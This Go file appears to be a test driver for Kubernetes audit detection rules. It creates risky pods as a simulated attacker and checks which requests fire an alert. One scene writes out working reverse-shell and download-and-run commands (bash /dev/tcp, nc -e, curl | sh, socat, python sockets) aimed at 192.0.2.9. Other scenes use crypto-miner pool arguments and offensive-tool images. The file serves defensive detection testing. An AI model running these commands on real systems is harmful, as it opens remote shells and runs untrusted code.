package main

import (
	"net/http"
)

// attackRiskyPods acts out the rules about what else can be wrong with a pod.
func (d *driver) attackRiskyPods() {
	d.prepareRiskyPods()
	d.podSettings()
	d.podPlacement()
	d.podVolumes()
	d.podContent()
	d.podIdentity()
	d.podChanges()
	d.podAdmission()
	d.podKinds()
}

func (d *driver) prepareRiskyPods() {
	d.as(d.admin).create(role("", "contractor-platform", `[
		{apiGroups: [""], resources: [pods/binding, bindings, pods/eviction, podtemplates, replicationcontrollers, endpoints, resourcequotas, limitranges, nodes, nodes/status, persistentvolumes, services/status],
			verbs: [get, list, create, update, patch, delete, deletecollection]},
		{apiGroups: [discovery.k8s.io], resources: [endpointslices], verbs: ["*"]},
		{apiGroups: [networking.k8s.io], resources: [ingresses], verbs: ["*"]},
		{apiGroups: [velero.io, snapshot.storage.k8s.io], resources: ["*"], verbs: [get, list, create, delete, deletecollection]}]`))
	d.as(d.admin).create(binding("", "contractors-platform", "ClusterRole/contractor-platform", "Group/contractors"))
	d.as(d.admin).create(object("v1", "Namespace", "", "guarded", map[string]any{
		"metadata": piece(`{labels: {pod-security.kubernetes.io/enforce: baseline, pod-security.kubernetes.io/audit: restricted}}`),
	}))
	for _, name := range []string{"cattle-system", "azure-arc"} {
		d.as(d.admin).create(bare("v1", "Namespace", "", name))
	}
}

// risk plays the ways a pod specification reaches the cluster for a rule about something that is in it, and what is near. more
// is what a patch of a harmless pod's specification adds to make it bad.
func (s scene) risk(prefix, bad, more string) {
	s.fires("pod-create", s.mallory).create(pod("lab", prefix, bad))
	s.fires("pod-apply-new", s.mallory).apply(pod("lab", prefix+"-applied", bad))
	s.fires("deployment-apply-new", s.mallory).apply(workload("Deployment", "lab", prefix+"-applied", bad))
	s.fires("cronjob-create", s.mallory).create(workload("CronJob", "lab", prefix, bad))
	if more != "" {
		s.fires("deployment-strategic-patch", s.mallory).patch(strategicPatch, s.turn(prefix+"-turned"), `{spec: {template: {spec: `+more+`}}}`)
	}
	s.quiet("harmless-pod", s.alice).create(pod("shop", prefix+"-harmless", plainPod))
	s.quiet("refused", s.alice).refused().create(pod("lab", prefix+"-alice", bad))
	s.quiet("dry-run", s.mallory).dryRun().create(pod("lab", prefix+"-dry", bad))
	s.quiet("label-of-the-workload", s.mallory).patch(mergePatch, at("apps/v1", "deployments", "lab", prefix+"-applied"), `{metadata: {labels: {tier: none}}}`)
	s.quiet("deleted", s.mallory).delete(at("v1", "pods", "lab", prefix+"-applied"))
}

// podWith is a pod specification with members beside its container.
func podWith(more string) string {
	return `{` + more + `, containers: [{name: app, image: "registry.example.com/tools:1"}]}`
}

func (d *driver) podSettings() {
	s := d.scene("Create Pod Allowing Privilege Escalation")
	s.risk("escalating", containers(`securityContext: {allowPrivilegeEscalation: true}`), `{containers: [{name: app, securityContext: {allowPrivilegeEscalation: true}}]}`)
	s.quiet("false", d.mallory).create(pod("lab", "escalating-no", containers(`securityContext: {allowPrivilegeEscalation: false}`)))

	s = d.scene("Create Pod Running as Root")
	s.risk("root", containers(`securityContext: {runAsUser: 0}`), `{containers: [{name: app, securityContext: {runAsUser: 0}}]}`)
	s.fires("pod-level", d.mallory).create(pod("lab", "root-pod-level", podWith(`securityContext: {runAsUser: 0}`)))
	s.fires("group", d.mallory).create(pod("lab", "root-group", containers(`securityContext: {runAsGroup: 0}`)))
	s.fires("non-root-false", d.mallory).create(pod("lab", "root-allowed", containers(`securityContext: {runAsNonRoot: false}`)))
	s.quiet("another-user", d.mallory).create(pod("lab", "root-no", containers(`securityContext: {runAsUser: 1000, runAsGroup: 1000, runAsNonRoot: true}`)))

	s = d.scene("Create Pod with Shared Process Namespace")
	s.risk("sharing", podWith(`shareProcessNamespace: true`), `{shareProcessNamespace: true}`)
	s.quiet("false", d.mallory).create(pod("lab", "sharing-no", podWith(`shareProcessNamespace: false`)))

	s = d.scene("Create Pod with Host Port")
	s.risk("host-port", containers(`ports: [{containerPort: 80, hostPort: 8080}]`), `{containers: [{name: app, ports: [{containerPort: 80, hostPort: 8081}]}]}`)
	s.quiet("container-port", d.mallory).create(pod("lab", "host-port-no", containers(`ports: [{containerPort: 8080}]`)))
	s.quiet("with-the-host-s-network", d.mallory).create(pod("lab", "host-port-network", `{hostNetwork: true, containers: [{name: app, image: "registry.example.com/tools:1", ports: [{containerPort: 8080}]}]}`))

	s = d.scene("Create Unconfined Pod")
	s.risk("unconfined", containers(`securityContext: {seccompProfile: {type: Unconfined}}`), `{containers: [{name: app, securityContext: {seccompProfile: {type: Unconfined}}}]}`)
	s.fires("pod-level", d.mallory).create(pod("lab", "unconfined-pod-level", podWith(`securityContext: {seccompProfile: {type: Unconfined}}`)))
	s.fires("apparmor", d.mallory).create(pod("lab", "unconfined-apparmor", containers(`securityContext: {appArmorProfile: {type: Unconfined}}`)))
	s.fires("selinux", d.mallory).create(pod("lab", "unconfined-selinux", containers(`securityContext: {seLinuxOptions: {type: spc_t}}`)))
	s.fires("proc-mount", d.mallory).create(pod("lab", "unconfined-proc", `{hostUsers: false, containers: [{name: app, image: "registry.example.com/tools:1", securityContext: {procMount: Unmasked}}]}`))
	s.fires("sysctl", d.mallory).create(pod("lab", "unconfined-sysctl", podWith(`securityContext: {sysctls: [{name: kernel.msgmax, value: "65536"}]}`)))
	s.quiet("runtime-default", d.mallory).create(pod("lab", "unconfined-no", podWith(`securityContext: {seccompProfile: {type: RuntimeDefault}, appArmorProfile: {type: RuntimeDefault}}`)))
	s.quiet("safe-sysctl", d.mallory).create(pod("lab", "unconfined-safe", podWith(`securityContext: {sysctls: [{name: net.ipv4.tcp_syncookies, value: "1"}]}`)))
}

func (d *driver) podPlacement() {
	s := d.scene("Pod Forced onto Control Plane")
	s.risk("on-control-plane", podWith(`nodeSelector: {node-role.kubernetes.io/control-plane: ""}`), `{nodeSelector: {node-role.kubernetes.io/control-plane: ""}}`)
	s.fires("tolerates-everything", d.mallory).create(pod("lab", "tolerant", podWith(`tolerations: [{operator: Exists}]`)))
	s.fires("tolerates-control-plane", d.mallory).create(workload("Deployment", "lab", "tolerant", podWith(`tolerations: [{key: node-role.kubernetes.io/control-plane, operator: Exists, effect: NoSchedule}]`)))
	affinity := func(operator string) string {
		return podWith(`affinity: {nodeAffinity: {requiredDuringSchedulingIgnoredDuringExecution: {nodeSelectorTerms: [{matchExpressions: [{key: node-role.kubernetes.io/control-plane, operator: ` + operator + `}]}]}}}`)
	}
	s.fires("affinity", d.mallory).create(pod("lab", "affine", affinity("Exists")))
	s.fires("affinity-deployment", d.mallory).create(workload("Deployment", "lab", "affine", affinity("Exists")))
	s.quiet("affinity-away", d.mallory).create(pod("lab", "affine-away", affinity("DoesNotExist")))
	s.quiet("tolerates-something", d.mallory).create(pod("lab", "tolerant-some", podWith(`tolerations: [{key: example.com/gpu, operator: Exists}]`)))
	s.quiet("daemonset-tolerates-everything", d.mallory).create(workload("DaemonSet", "lab", "tolerant", podWith(`tolerations: [{operator: Exists}]`)))

	s = d.scene("Pod Placed on Chosen Node")
	s.risk("placed", podWith(`nodeName: `+nodeName), `{nodeName: `+nodeName+`}`)
	s.fires("hostname-selector", d.mallory).create(pod("lab", "placed-selected", podWith(`nodeSelector: {kubernetes.io/hostname: `+nodeName+`}`)))
	s.quiet("zone-selector", d.mallory).create(pod("lab", "placed-zone", podWith(`nodeSelector: {topology.kubernetes.io/zone: zone-a}`)))
	s.quiet("label-of-a-running-pod", d.mallory).patch(mergePatch, victim, `{metadata: {labels: {placed: "no"}}}`)

	s = d.scene("Pod Bound to Node by Hand")
	for _, name := range []string{"waiting-a", "waiting-b", "waiting-c"} {
		d.as(d.mallory).create(pod("lab", name, podWith(`schedulerName: nobody`)))
	}
	bind := func(name string) string {
		return object("v1", "Binding", "lab", name, piece(`{target: {apiVersion: v1, kind: Node, name: `+nodeName+`}}`))
	}
	s.quiet("refused", d.alice).refused().post(at("v1", "pods", "lab", "waiting-a", "binding"), bind("waiting-a"))
	s.quiet("dry-run", d.mallory).dryRun().post(at("v1", "pods", "lab", "waiting-a", "binding"), bind("waiting-a"))
	s.fires("subresource", d.mallory).post(at("v1", "pods", "lab", "waiting-a", "binding"), bind("waiting-a"))
	s.fires("resource", d.admin).post(at("v1", "bindings", "lab"), bind("waiting-b"))
	s.quiet("role-binding", d.admin).create(binding("lab", "readers", "ClusterRole/view", "User/auditor"))
	s.observed("the scheduler binding a pod", func(e *event) bool {
		return e.User.Username == "system:kube-scheduler" && e.ObjectRef.Resource == "pods" && e.ObjectRef.Subresource == "binding"
	})
}

func (d *driver) podVolumes() {
	s := d.scene("Create HostPath Pod")
	s.risk("hostpath-data", hostPath("/data/app"), `{volumes: [{name: host, hostPath: {path: /data/app}}]}`)
	s.quiet("sensitive", d.mallory).create(pod("lab", "hostpath-data-etc", hostPath("/etc")))
	s.quiet("emptydir", d.mallory).create(pod("lab", "hostpath-data-no", podWith(`volumes: [{name: d, emptyDir: {}}]`)))

	s = d.scene("Create Pod with Read-Only Sensitive Mount")
	s.risk("logs-ro", readOnly("/var/log"), "")
	s.fires("usr", d.mallory).create(pod("lab", "usr-ro", readOnly("/usr//share")))
	s.quiet("writable", d.mallory).create(pod("lab", "logs-rw", hostPath("/var/log")))
	s.quiet("data", d.mallory).create(pod("lab", "data-ro", readOnly("/data")))
	s.quiet("read-only-credentials", d.mallory).create(pod("lab", "kubelet-ro", readOnly("/var/lib/kubelet")))

	s = d.scene("Create Pod with Indirect Host Access")
	s.risk("flex", podWith(`volumes: [{name: d, flexVolume: {driver: example.com/disk}}]`), `{volumes: [{name: d, flexVolume: {driver: example.com/disk}}]}`)
	s.fires("glusterfs", d.mallory).create(pod("lab", "gluster", podWith(`volumes: [{name: d, glusterfs: {endpoints: elsewhere, path: /x}}]`)))
	s.fires("csi", d.mallory).create(workload("Deployment", "lab", "csi", podWith(`volumes: [{name: d, csi: {driver: disk.example.com}}]`)))
	s.quiet("csi-of-a-known-driver", d.mallory).create(workload("Deployment", "lab", "csi-known", podWith(`volumes: [{name: d, csi: {driver: secrets-store.csi.k8s.io, readOnly: true}}]`)))
	s.quiet("nfs", d.mallory).create(pod("lab", "nfs", podWith(`volumes: [{name: d, nfs: {server: nfs.example.com, path: /x}}]`)))
	s.quiet("emptydir", d.mallory).create(pod("lab", "flex-no", podWith(`volumes: [{name: d, emptyDir: {}}]`)))

	s = d.scene("Persistent Volume of a Sensitive Host Path")
	volume := func(name, source string) string {
		return object("v1", "PersistentVolume", "", name, piece(`{spec: {capacity: {storage: 1Gi}, accessModes: [ReadWriteOnce], persistentVolumeReclaimPolicy: Retain, storageClassName: none, `+source+`}}`))
	}
	onNode := `nodeAffinity: {required: {nodeSelectorTerms: [{matchExpressions: [{key: kubernetes.io/hostname, operator: In, values: [` + nodeName + `]}]}]}}`
	s.fires("hostpath", d.mallory).create(volume("pv-etc", `hostPath: {path: /etc/kubernetes}`))
	s.fires("root", d.mallory).create(volume("pv-root", `hostPath: {path: /}`))
	s.fires("var", d.mallory).apply(volume("pv-var", `hostPath: {path: /var/}`))
	s.fires("doubled-slash", d.mallory).create(volume("pv-slash", `hostPath: {path: //etc}`))
	s.fires("local", d.mallory).create(volume("pv-local", `local: {path: /var/lib/kubelet/pods}, `+onNode))
	s.quiet("data", d.mallory).create(volume("pv-data", `hostPath: {path: /data/pv}`))
	s.quiet("local-data", d.mallory).create(volume("pv-local-data", `local: {path: /mnt/disks/a}, `+onNode))
	s.quiet("similar", d.mallory).create(volume("pv-similar", `hostPath: {path: /etcetera}`))
	s.quiet("dry-run", d.mallory).dryRun().create(volume("pv-dry", `hostPath: {path: /etc}`))
	s.quiet("refused", d.alice).refused().create(volume("pv-alice", `hostPath: {path: /etc}`))
}

func (d *driver) podContent() {
	image := func(image string) string { return `{containers: [{name: app, image: "` + image + `"}]}` }
	runs := func(script string) string {
		return containers(`command: [sh, -c, "` + script + `"]`)
	}
	s := d.scene("Create Crypto Miner Pod")
	s.risk("worker", image("docker.io/xmrig/xmrig:6.21"), `{containers: [{name: app, image: "xmrig/xmrig"}]}`)
	s.fires("arguments", d.mallory).create(pod("lab", "worker-args", containers(`args: ["-o", "stratum+tcp://pool.example.com:3333", "-u", "44AFFq5k"]`)))
	s.fires("name-of-the-container", d.mallory).create(pod("lab", "worker-name", `{containers: [{name: minerd, image: "registry.example.com/tools:1"}]}`))
	s.fires("environment", d.mallory).create(pod("lab", "worker-env", containers(`env: [{name: POOL_URL, value: "pool.example.com:443"}, {name: WALLET, value: 44AFFq5k}]`)))
	s.fires("init-container", d.mallory).create(pod("lab", "worker-init", `{initContainers: [{name: setup, image: "example/t-rex:0.26"}], containers: [{name: app, image: "registry.example.com/tools:1"}]}`))
	s.fires("image-of-a-running-pod", d.mallory).patch(jsonPatch, d.patched("worker-running"), `[{op: replace, path: /spec/containers/0/image, value: "registry.example.com/cpuminer:1"}]`)
	s.quiet("similar-image", d.mallory).create(pod("lab", "determiner", image("registry.example.com/determiner:1")))
	s.quiet("pool-of-something-else", d.mallory).create(pod("lab", "pooled", containers(`args: ["--pool", "tcp://db.example.com:5432"], env: [{name: POOL_URL, value: "db.example.com:5432"}]`)))

	s = d.scene("Create Offensive Tool Pod")
	s.risk("hunter", image("aquasec/kube-hunter:0.6.8"), `{containers: [{name: app, image: "aquasec/kube-hunter:0.6.8"}]}`)
	s.fires("kali", d.mallory).create(pod("lab", "hunter-kali", image("docker.io/kalilinux/kali-rolling")))
	s.fires("registry-with-port", d.mallory).create(pod("lab", "hunter-port", image("registry.example.com:5000/mirror/peirates@sha256:4bc453b53cb3d914b45f4b250294236adba2c0e09ff6f03793949e7e39fd4cc1")))
	s.fires("command", d.mallory).create(pod("lab", "hunter-command", runs("./cdk evaluate --full")))
	s.fires("name", d.mallory).create(pod("lab", "peirates", plainPod))
	s.quiet("similar-image", d.mallory).create(pod("lab", "hunted", image("registry.example.com/cdk-deploy:1")))
	s.quiet("replicas", d.mallory).patch(mergePatch, at("apps/v1", "deployments", "lab", "hunter-applied"), `{spec: {replicas: 2}}`)
	s.quiet("another-command", d.mallory).create(pod("lab", "evaluator", runs("./evaluate --full")))

	s = d.scene("Reverse Shell or Downloader in Pod")
	s.risk("shell", runs("bash -i >& /dev/tcp/192.0.2.9/4444 0>&1"), `{containers: [{name: app, command: [nc, "-e", /bin/sh, 192.0.2.9, "4444"]}]}`)
	s.fires("downloader", d.mallory).create(pod("lab", "shell-curl", runs("curl -s http://192.0.2.9/x | sh")))
	s.fires("base64", d.mallory).create(pod("lab", "shell-base64", runs("echo aWQK | base64 -d | bash")))
	s.fires("openssl", d.mallory).create(pod("lab", "shell-openssl", runs("mknod p p; sh <p 2>&1 | openssl s_client -quiet -connect 192.0.2.9:4444 >p")))
	s.fires("socat", d.mallory).create(pod("lab", "shell-socat", containers(`command: [socat, "TCP:192.0.2.9:4444", "EXEC:/bin/sh"]`)))
	s.fires("python", d.mallory).create(pod("lab", "shell-python", containers(`command: [python3, -c, "import socket,os;s=socket.socket();s.connect(('192.0.2.9',4444));os.dup2(s.fileno(),0)"]`)))
	s.fires("hook", d.mallory).create(pod("lab", "shell-hook", containers(`lifecycle: {postStart: {exec: {command: [bash, -c, "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.9 4444 > /tmp/f"]}}}`)))
	s.fires("probe", d.mallory).create(pod("lab", "shell-probe", containers(`livenessProbe: {exec: {command: [sh, -c, "wget -qO- http://192.0.2.9/x | /bin/sh"]}}`)))
	s.fires("init-container", d.mallory).create(pod("lab", "shell-init", `{initContainers: [{name: setup, image: "registry.example.com/tools:1", command: [bash, -c, "exec 5<>/dev/tcp/192.0.2.9/4444"]}], containers: [{name: app, image: "registry.example.com/tools:1"}]}`))
	s.quiet("health-check", d.mallory).create(pod("lab", "shell-no-curl", containers(`livenessProbe: {exec: {command: [sh, -c, "curl -fs http://localhost:8080/healthz"]}}`)))
	s.quiet("downloaded-program", d.mallory).create(pod("lab", "shell-no-download", runs("curl -sLo /tools/jq https://example.com/jq && chmod +x /tools/jq")))
	s.quiet("script", d.mallory).create(pod("lab", "shell-no", runs("set -e; ./migrate && exec ./serve --bash-integration")))

	s = d.scene("Create Disallowed Pod")
	s.risk("foreign", image("docker.io/library/nginx:1.27"), `{containers: [{name: app, image: "nginx:1.27"}]}`)
	s.fires("second-container", d.mallory).create(pod("lab", "foreign-second", `{containers: [{name: app, image: "registry.example.com/tools:1"}, {name: side, image: "quay.io/example/side:1"}]}`))
	s.fires("init-container", d.mallory).create(pod("lab", "foreign-init", `{initContainers: [{name: setup, image: "busybox"}], containers: [{name: app, image: "registry.example.com/tools:1"}]}`))
	s.fires("registry-with-port", d.mallory).create(pod("lab", "foreign-port", image("registry.example.com:5000/tools:1")))
	s.fires("registry-that-begins-alike", d.mallory).create(pod("lab", "foreign-alike", image("registry.example.com.example.net/tools:1")))
	s.fires("ephemeral-container", d.mallory).patch(strategicPatch, at("v1", "pods", "lab", "reporter", "ephemeralcontainers"),
		`{spec: {ephemeralContainers: [{name: debug-foreign, image: "docker.io/library/busybox"}]}}`)
	s.quiet("digest", d.mallory).create(pod("lab", "foreign-no", image("registry.example.com/shop/web@sha256:4bc453b53cb3d914b45f4b250294236adba2c0e09ff6f03793949e7e39fd4cc1")))

	s = d.scene("Pod Named Like a System Component")
	s.fires("pod", d.mallory).create(pod("lab", "kube-proxy-7xk2p", plainPod))
	s.fires("generated-name", d.mallory).create(pod("lab", "kube-proxy-", plainPod))
	s.fires("deployment", d.mallory).create(workload("Deployment", "lab", "coredns", plainPod))
	s.fires("daemonset-apply-new", d.mallory).apply(workload("DaemonSet", "lab", "calico-node", plainPod))
	s.quiet("similar", d.mallory).create(pod("lab", "proxy-kube", plainPod))
	s.quiet("in-kube-system", d.admin).create(pod("kube-system", "kube-proxy-9zzzz", plainPod))
	s.quiet("refused", d.alice).refused().create(pod("lab", "coredns-alice", plainPod))
	s.quiet("configmap", d.mallory).create(configMap("lab", "coredns", `{a: b}`))
}

func (d *driver) podIdentity() {
	s := d.scene("Controller Service Account Attached to Pod")
	as := func(account string) string { return podWith(`serviceAccountName: ` + account) }
	s.fires("pod", d.mallory).create(pod("kube-system", "aggregator", as("clusterrole-aggregation-controller")))
	s.fires("deployment", d.mallory).apply(workload("Deployment", "kube-system", "aggregator", as("deployment-controller")))
	s.fires("cronjob", d.admin).create(workload("CronJob", "kube-system", "aggregator", as("daemon-set-controller")))
	s.quiet("default-account", d.mallory).create(pod("kube-system", "aggregator-default", as("default")))
	d.as(d.admin).create(bare("v1", "ServiceAccount", "lab", "deployment-controller"))
	s.quiet("account-of-that-name-elsewhere", d.mallory).create(pod("lab", "aggregator", as("deployment-controller")))
	s.quiet("dry-run", d.mallory).dryRun().create(pod("kube-system", "aggregator-dry", as("job-controller")))

	s = d.scene("Secret Pulled Through a New Pod")
	reads := `env: [{name: P, valueFrom: {secretKeyRef: {name: database, key: password}}}]`
	s.fires("environment", d.mallory).create(pod("lab", "reader-env", containers(reads)))
	s.fires("environment-from", d.mallory).create(pod("lab", "reader-from", containers(`envFrom: [{secretRef: {name: database}}]`)))
	s.fires("volume", d.mallory).apply(pod("lab", "reader-volume", podWith(`volumes: [{name: s, secret: {secretName: database}}]`)))
	s.fires("projected", d.mallory).create(pod("lab", "reader-projected", podWith(`volumes: [{name: s, projected: {sources: [{secret: {name: database}}]}}]`)))
	s.fires("init-container", d.mallory).create(pod("lab", "reader-init", `{initContainers: [{name: setup, image: "registry.example.com/tools:1", `+reads+`}], containers: [{name: app, image: "registry.example.com/tools:1"}]}`))
	s.fires("high-value-in-deployment", d.mallory).create(workload("Deployment", "lab", "reader-high", podWith(`volumes: [{name: s, secret: {secretName: admin-kubeconfig}}]`)))
	s.quiet("deployment", d.mallory).create(workload("Deployment", "lab", "reader", containers(reads)))
	s.quiet("configmap", d.mallory).create(pod("lab", "reader-configmap", podWith(`volumes: [{name: s, configMap: {name: kube-root-ca.crt}}]`)))
	s.quiet("pull-secret", d.mallory).create(pod("lab", "reader-pull", podWith(`imagePullSecrets: [{name: registry}]`)))
	s.observed("the replica set controller making a pod that uses a secret", func(e *event) bool {
		return e.User.Username == "system:serviceaccount:kube-system:replicaset-controller" && e.Verb == "create" && e.ObjectRef.Resource == "pods" && e.ObjectRef.Namespace == "lab"
	})

	s = d.scene("Unexpected Static Pod")
	s.fires("create", d.node).create(d.staticPod("lab", "web-"+nodeName, `tty: true`))
	s.fires("name-of-the-control-plane-elsewhere", d.node).create(d.staticPod("lab", "etcd-"+nodeName, `tty: true`))
	s.fires("privileged", d.node).create(d.staticPod("kube-system", "helper-"+nodeName, `securityContext: {privileged: true}`))
	s.quiet("of-the-control-plane", d.node).create(d.staticPod("kube-system", "kube-scheduler-"+nodeName, `tty: true`))
	s.quiet("pod-by-a-person", d.mallory).create(pod("lab", "web-static", plainPod))
}

// patched is the path of a new pod whose image is to be patched.
func (d *driver) patched(name string) string {
	d.as(d.mallory).create(pod("lab", name, plainPod))
	d.running("lab", name)
	return at("v1", "pods", "lab", name)
}

func (d *driver) podChanges() {
	s := d.scene("Image of Running Pod Replaced")
	path := d.patched("replaced")
	s.fires("json-patch", d.mallory).patch(jsonPatch, path, `[{op: replace, path: /spec/containers/0/image, value: "registry.example.com/tools:2"}]`)
	s.fires("strategic-patch", d.mallory).patch(strategicPatch, path, `{spec: {containers: [{name: app, image: "registry.example.com/tools:3"}]}}`)
	current := piece(string(d.as(d.mallory).send(http.MethodGet, path, "", nil)))
	current["spec"].(map[string]any)["containers"].([]any)[0].(map[string]any)["image"] = "registry.example.com/tools:4"
	s.fires("update", d.mallory).put(path, asJSON(current))
	s.quiet("label", d.mallory).patch(mergePatch, path, `{metadata: {labels: {tier: none}}}`)
	s.quiet("deployment", d.mallory).patch(strategicPatch, s.turn("replaced"), `{spec: {template: {spec: {containers: [{name: app, image: "registry.example.com/tools:2"}]}}}}`)
	s.quiet("refused", d.alice).refused().patch(jsonPatch, path, `[{op: replace, path: /spec/containers/0/image, value: "registry.example.com/tools:5"}]`)
	s.quiet("dry-run", d.mallory).dryRun().patch(jsonPatch, path, `[{op: replace, path: /spec/containers/0/image, value: "registry.example.com/tools:5"}]`)
	s.observed("the kubelet reporting a pod", func(e *event) bool {
		return e.ObjectRef.Resource == "pods" && e.ObjectRef.Subresource == "status" && e.Verb == "patch" && e.ObjectRef.Namespace == "lab"
	})

	s = d.scene("Container Added to Workload")
	side := `{name: side, image: "registry.example.com/side:1", args: [run]}`
	s.fires("json-patch", d.mallory).patch(jsonPatch, s.turn("sidecar-json"), `[{op: add, path: /spec/template/spec/containers/-, value: `+side+`}]`)
	s.fires("strategic-patch", d.mallory).patch(strategicPatch, s.turn("sidecar-strategic"), `{spec: {template: {spec: {containers: [`+side+`]}}}}`)
	s.fires("merge-patch", d.mallory).patch(mergePatch, s.turn("sidecar-merge"), `{spec: {template: {spec: {containers: [{name: app, image: "registry.example.com/shop/web:1.2.0"}, {name: side, image: "registry.example.com/side:1"}]}}}}`)
	s.fires("init-container", d.mallory).patch(strategicPatch, s.turn("sidecar-init"), `{spec: {template: {spec: {initContainers: [{name: setup, image: "registry.example.com/side:1"}]}}}}`)
	s.quiet("image-of-one-of-two", d.mallory).patch(strategicPatch, at("apps/v1", "deployments", "lab", "sidecar-json"), `{spec: {template: {spec: {containers: [{name: side, image: "registry.example.com/side:2"}]}}}}`)
	s.quiet("image-of-the-only-one", d.mallory).patch(strategicPatch, s.turn("sidecar-no"), `{spec: {template: {spec: {containers: [{name: app, image: "registry.example.com/shop/web:1.3.0"}]}}}}`)
	s.quiet("restarted", d.mallory).patch(strategicPatch, at("apps/v1", "deployments", "lab", "sidecar-json"), `{spec: {template: {metadata: {annotations: {kubectl.kubernetes.io/restartedAt: now}}}}}`)
	s.quiet("created-with-two", d.mallory).create(workload("Deployment", "lab", "sidecar-born", `{containers: [{name: app, image: "registry.example.com/tools:1"}, `+side+`]}`))

	s = d.scene("Ephemeral Container With Raised Rights")
	path = d.patched("debugged-raised")
	ephemeral := func(name, more string) string {
		return `{spec: {ephemeralContainers: [{name: ` + name + `, image: "registry.example.com/tools:1", targetContainerName: app, ` + more + `}]}}`
	}
	s.quiet("plain", d.mallory).patch(strategicPatch, path+"/ephemeralcontainers", ephemeral("plain", `tty: true`))
	s.quiet("as-kubectl-debug-does", d.mallory).patch(strategicPatch, path+"/ephemeralcontainers", ephemeral("ptrace", `securityContext: {capabilities: {add: [SYS_PTRACE]}}`))
	s.quiet("refused", d.alice).refused().patch(strategicPatch, path+"/ephemeralcontainers", ephemeral("refused", `securityContext: {privileged: true}`))
	s.quiet("dry-run", d.mallory).dryRun().patch(strategicPatch, path+"/ephemeralcontainers", ephemeral("dry", `securityContext: {privileged: true}`))
	s.fires("privileged", d.mallory).patch(strategicPatch, path+"/ephemeralcontainers", ephemeral("privileged", `securityContext: {privileged: true}`))
	s.fires("json-patch", d.mallory).patch(jsonPatch, d.patched("debugged-json")+"/ephemeralcontainers",
		`[{op: add, path: /spec/ephemeralContainers, value: [{name: debug, image: "registry.example.com/tools:1", securityContext: {privileged: true}}]}]`)
	s.fires("root", d.mallory).patch(strategicPatch, d.patched("debugged-root")+"/ephemeralcontainers", ephemeral("root", `securityContext: {runAsUser: 0}`))
	s.fires("capability", d.mallory).patch(strategicPatch, d.patched("debugged-capable")+"/ephemeralcontainers", ephemeral("capable", `securityContext: {capabilities: {add: [CAP_SYS_ADMIN]}}`))
	d.as(d.admin).create(pod("lab", "debugged-privileged", containers(`securityContext: {privileged: true}`)))
	d.running("lab", "debugged-privileged")
	s.quiet("plain-in-a-privileged-pod", d.mallory).patch(strategicPatch, at("v1", "pods", "lab", "debugged-privileged", "ephemeralcontainers"), ephemeral("plain", `tty: true`))

	s = d.scene("Workload Changed in Kube Namespace")
	d.as(d.admin).create(workload("Deployment", "kube-system", "addon", plainPod))
	addon := at("apps/v1", "deployments", "kube-system", "addon")
	s.fires("strategic-patch", d.mallory).patch(strategicPatch, addon, `{spec: {template: {spec: {containers: [{name: app, image: "registry.example.com/tools:2"}]}}}}`)
	s.fires("apply-existing", d.admin).apply(workload("Deployment", "kube-system", "addon", containers(`args: [a]`)))
	s.fires("ephemeral-container", d.admin).patch(strategicPatch, at("v1", "pods", "kube-system", d.aPod("kube-system", "app=metrics-applied"), "ephemeralcontainers"), ephemeral("debugger", `tty: true`))
	s.quiet("label", d.mallory).patch(mergePatch, addon, `{metadata: {labels: {tier: none}}}`)
	s.quiet("scaled", d.mallory).patch(mergePatch, addon+"/scale", `{spec: {replicas: 2}}`)
	s.quiet("in-own-namespace", d.mallory).patch(strategicPatch, s.turn("addon"), `{spec: {template: {spec: {containers: [{name: app, image: "registry.example.com/tools:2"}]}}}}`)
	s.quiet("refused", d.alice).refused().patch(strategicPatch, addon, `{spec: {template: {spec: {containers: [{name: app, image: "registry.example.com/tools:3"}]}}}}`)
	s.observed("the deployment controller making a replica set", func(e *event) bool {
		return e.User.Username == "system:serviceaccount:kube-system:deployment-controller" && e.Verb == "create" && e.ObjectRef.Resource == "replicasets" && e.ObjectRef.Namespace == "kube-system"
	})
}

func (d *driver) podAdmission() {
	s := d.scene("Admission Break-Glass Used")
	marked := func(name string) string {
		return object("v1", "Pod", "lab", name, map[string]any{"metadata": piece(`{labels: {image-policy.k8s.io/break-glass: "true"}}`), "spec": piece(plainPod)})
	}
	s.fires("label", d.mallory).create(marked("breaking"))
	s.fires("annotation", d.mallory).create(object("v1", "Pod", "lab", "breaking-old", map[string]any{"metadata": piece(`{annotations: {alpha.image-policy.k8s.io/break-glass: "true"}}`), "spec": piece(plainPod)}))
	template := piece(workload("Deployment", "lab", "breaking", plainPod))
	template["spec"].(map[string]any)["template"].(map[string]any)["metadata"].(map[string]any)["labels"].(map[string]any)["image-policy.k8s.io/break-glass"] = "true"
	s.fires("template", d.mallory).apply(asJSON(template))
	s.fires("label-added", d.mallory).patch(mergePatch, s.turn("breaking-later"), `{metadata: {labels: {image-policy.k8s.io/break-glass: "true"}}}`)
	s.quiet("another-label", d.mallory).create(object("v1", "Pod", "lab", "breaking-no", map[string]any{"metadata": piece(`{labels: {glass: break}}`), "spec": piece(plainPod)}))
	s.quiet("refused", d.alice).refused().create(marked("breaking-alice"))
	s.quiet("dry-run", d.mallory).dryRun().create(marked("breaking-dry"))

	s = d.scene("Pod Security Violation Recorded")
	restricted := `{securityContext: {runAsNonRoot: true, seccompProfile: {type: RuntimeDefault}}, containers: [{name: app, image: "registry.example.com/tools:1",
		securityContext: {allowPrivilegeEscalation: false, capabilities: {drop: [ALL]}}}]}`
	s.fires("pod", d.mallory).create(pod("guarded", "loose", plainPod))
	s.fires("deployment", d.mallory).apply(workload("Deployment", "guarded", "loose", plainPod))
	s.quiet("tight-pod", d.mallory).create(pod("guarded", "tight", restricted))
	s.quiet("namespace-without-labels", d.mallory).create(pod("lab", "loose", plainPod))
	s.observed("the replica set controller making such a pod", func(e *event) bool {
		return e.User.Username == "system:serviceaccount:kube-system:replicaset-controller" && e.Verb == "create" && e.ObjectRef.Resource == "pods" && e.ObjectRef.Namespace == "guarded"
	})
	d.rolledOut("guarded", "loose", 1)

	s = d.scene("Dangerous Pod Refused")
	s.fires("privileged", d.mallory).refused().create(pod("guarded", "refused-privileged", containers(`securityContext: {privileged: true}`)))
	s.fires("host-namespace", d.mallory).refused().apply(pod("guarded", "refused-host", podWith(`hostPID: true`)))
	s.fires("host-path", d.mallory).refused().create(pod("guarded", "refused-path", hostPath("/etc")))
	s.fires("capability", d.mallory).refused().create(pod("guarded", "refused-capable", containers(`securityContext: {capabilities: {add: [SYS_ADMIN]}}`)))
	s.quiet("succeeded", d.mallory).create(pod("lab", "not-refused", containers(`securityContext: {privileged: true}`)))
